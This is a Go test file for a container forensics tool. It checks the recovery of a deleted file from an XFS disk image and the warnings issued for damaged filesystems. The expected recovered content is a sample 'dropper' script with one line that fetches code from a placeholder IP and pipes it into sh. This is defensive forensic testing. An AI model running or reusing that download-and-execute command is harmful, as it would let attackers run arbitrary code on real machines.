package forensics

import (
	"context"
	"errors"
	"io"
	"path/filepath"
	"reflect"
	"testing"

	"github.com/deadnode/deadnode/evidence"
	"github.com/deadnode/deadnode/evidence/vfs"
	"github.com/deadnode/deadnode/internal/testfix"
)

const recoverApp = "4b324cab25486a33822d1672700ac0cdad1d9d183089b7126b778bc3343c4007"

// TestRecover: the dropper deleted from the attacked container's upper
// dir of the GPT+XFS node comes back by name and content; the live view
// never shows it; a cancelled context stops the call; an archive has
// nothing to recover from.
func TestRecover(t *testing.T) {
	n, err := OpenPath(context.Background(), filepath.Join(testfix.DiskImages(t), "gpt-xfs.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	recs, warns, err := n.Recover(context.Background(), []string{recoverApp}, nil)
	if err != nil || len(warns) != 0 {
		t.Fatal(err, warns)
	}
	if len(recs) != 1 {
		t.Fatalf("%d records: %+v", len(recs), recs)
	}
	r := recs[0]
	if *r.ContainerID != recoverApp || *r.Path != "/tmp/.dropper.sh" || *r.EvidencePath != "/"+testfix.NodeUpperDir+"/tmp/.dropper.sh" ||
		r.Size != 78 || r.RecoveredBytes != 78 || !r.Complete || r.Mode != "0644" || r.Type != "file" ||
		*r.SHA256 != "31a71d1b0f5563a15844b3014592d3202c5f271590d1d7b45be3c6db58cfefb7" || r.DeletedAt.IsZero() || r.Mtime.IsZero() {
		t.Errorf("%+v", r)
	}
	rd, err := r.Open()
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(rd)
	if string(b) != "#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n" {
		t.Errorf("recovered %q", b)
	}
	if _, err := n.Src.Lstat(testfix.NodeUpperDir + "/tmp/.dropper.sh"); err == nil {
		t.Error("the deleted file is visible in the live view")
	}
	all, warns, err := n.Recover(context.Background(), nil, &RecoverOptions{All: true})
	if err != nil || len(all) != 1 || *all[0].EvidencePath != *r.EvidencePath || len(warns) != 0 {
		t.Errorf("--all: %+v %v %v", all, warns, err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := n.Recover(ctx, nil, &RecoverOptions{All: true}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
	if _, _, err := n.Recover(context.Background(), nil, nil); err == nil {
		t.Error("no containers and not all: no error")
	}
	var nf *NotFoundError
	if _, _, err := n.Recover(context.Background(), []string{"nosuch"}, nil); !errors.As(err, &nf) {
		t.Errorf("unknown container: %v", err)
	}
	a, err := OpenPath(context.Background(), testfix.NodeArchive(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	if _, _, err := a.Recover(context.Background(), []string{recoverApp}, nil); !errors.Is(err, ErrNeedsDiskImage) {
		t.Errorf("archive: %v", err)
	}
}

// failingUpper is a disk image whose filesystem cannot list what was
// deleted below one directory (a damaged directory, say).
type failingUpper struct {
	evidence.Source
	bad string
}

func (f failingUpper) Deleted(ctx context.Context, dir string) ([]vfs.Deleted, error) {
	if dir == f.bad {
		return nil, &evidence.FormatError{File: "xfs inode 133", Offset: 4096, Msg: "damaged directory"}
	}
	return f.Source.(vfs.Recoverer).Deleted(ctx, dir)
}

func (f failingUpper) DeletedFS(ctx context.Context, names ...string) ([]vfs.Deleted, error) {
	return f.Source.(fsDeleter).DeletedFS(ctx, names...)
}

// A directory whose deleted files cannot be listed is a warning naming
// it, and what the rest of the node holds is still recovered: with --all,
// the attacked container's dropper comes back through the runtime root.
func TestRecoverGoesOnPastAFailure(t *testing.T) {
	img, err := OpenPath(context.Background(), filepath.Join(testfix.DiskImages(t), "gpt-xfs.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	n, err := Open(failingUpper{img.Src, testfix.NodeUpperDir}, nil)
	if err != nil {
		t.Fatal(err)
	}
	recs, warns, err := n.Recover(context.Background(), []string{recoverApp}, nil)
	want := evidence.Warnf("/"+testfix.NodeUpperDir, -1, "deleted files not all listed: xfs inode 133: offset 4096: damaged directory")
	if err != nil || len(recs) != 0 || len(warns) != 1 || warns[0] != want {
		t.Fatalf("named: %d records, warnings %#v, %v", len(recs), warns, err)
	}
	all, warns, err := n.Recover(context.Background(), nil, &RecoverOptions{All: true})
	if err != nil || len(all) != 1 || *all[0].Path != "/tmp/.dropper.sh" || len(warns) != 1 || warns[0] != want {
		t.Fatalf("--all: %+v, warnings %#v, %v", all, warns, err)
	}
}

// failingFS is a disk image none of whose filesystems can be listed
// whole: each fails on its own.
type failingFS struct{ evidence.Source }

func (f failingFS) Deleted(ctx context.Context, dir string) ([]vfs.Deleted, error) {
	return f.Source.(vfs.Recoverer).Deleted(ctx, dir)
}

func (f failingFS) DeletedFS(ctx context.Context, names ...string) ([]vfs.Deleted, error) {
	return nil, errors.Join(errors.New("volume p1 (xfs, mounted at /): damaged"), errors.New("volume p2 (ext4, mounted at /var): damaged too"))
}

// Each filesystem that --all cannot list whole is a warning of its own,
// and what was found by name is still recovered.
func TestRecoverWarnsPerFilesystem(t *testing.T) {
	img, err := OpenPath(context.Background(), filepath.Join(testfix.DiskImages(t), "gpt-xfs.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	n, err := Open(failingFS{img.Src}, nil)
	if err != nil {
		t.Fatal(err)
	}
	all, warns, err := n.Recover(context.Background(), nil, &RecoverOptions{All: true})
	want := []evidence.Warning{
		evidence.Warnf("", -1, "deleted files not all listed: volume p1 (xfs, mounted at /): damaged"),
		evidence.Warnf("", -1, "deleted files not all listed: volume p2 (ext4, mounted at /var): damaged too"),
	}
	if err != nil || len(all) != 1 || !reflect.DeepEqual(warns, want) {
		t.Fatalf("%d records, warnings %#v, %v", len(all), warns, err)
	}
}
